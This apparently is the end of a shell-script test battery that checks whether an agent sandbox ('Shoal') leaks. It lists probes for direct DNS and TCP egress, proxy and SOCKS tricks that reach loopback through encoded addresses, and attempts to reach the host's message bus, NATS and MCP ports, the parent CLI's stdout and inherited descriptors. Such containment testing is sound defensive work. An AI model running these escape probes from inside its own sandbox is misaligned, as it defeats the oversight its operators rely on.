py dns_direct_lookup        dns registry.npmjs.org
py tcp_direct_registry      tcp_direct registry.npmjs.org 443
# --- proxy tricks (only meaningful where a proxy is offered in the environment)
py proxy_connect_127        proxy_connect "127.0.0.1:$TCPPORT"
py proxy_connect_localhost  proxy_connect "localhost:$TCPPORT"
py proxy_connect_v6_loop    proxy_connect "[::1]:$TCPPORT"
py proxy_connect_v4mapped   proxy_connect "[::ffff:127.0.0.1]:$TCPPORT"
py proxy_connect_decimal    proxy_connect "2130706433:$TCPPORT"
py proxy_connect_hex        proxy_connect "0x7f000001:$TCPPORT"
py proxy_connect_octal      proxy_connect "0177.0.0.1:$TCPPORT"
py proxy_connect_short      proxy_connect "127.1:$TCPPORT"
py proxy_connect_zero       proxy_connect "0.0.0.0:$TCPPORT"
py proxy_connect_dot        proxy_connect "localhost.:$TCPPORT"
py proxy_connect_sub_lh     proxy_connect "x.localhost:$TCPPORT"
py proxy_connect_hostname   proxy_connect "$HOST_HOSTNAME:$TCPPORT"
py proxy_get_absolute       proxy_get "http://127.0.0.1:$TCPPORT/"
py proxy_get_userinfo       proxy_get "http://registry.npmjs.org@127.0.0.1:$TCPPORT/"
py proxy_get_localhost      proxy_get "http://localhost:$TCPPORT/"
py proxy_connect_name_loop  proxy_connect "name-loop.shoal.test:$TCPPORT"
py proxy_connect_name_v6    proxy_connect "name-v6.shoal.test:$TCPPORT"
py proxy_connect_name_zero  proxy_connect "name-zero.shoal.test:$TCPPORT"
py proxy_get_name_loop      proxy_get "http://name-loop.shoal.test:$TCPPORT/"
py socks_name_loop          socks name-loop.shoal.test "$TCPPORT"
py socks_ip_127             socks 127.0.0.1 "$TCPPORT"
py socks_domain_localhost   socks localhost "$TCPPORT"
py socks_domain_hostname    socks "$HOST_HOSTNAME" "$TCPPORT"
# --- Shoal's own doors on this machine, and the agent CLI's stdout
py reach_kaimon_bus         reach unix "$BUS_PATH"
py reach_nats_port          reach tcp 127.0.0.1 "$NATS_PORT"
py reach_mcp_port           reach tcp 127.0.0.1 "$MCP_PORT"
py write_ancestor_stdout    ancestor_stdout
py inherited_fds            inherited_fds
echo "# battery end"
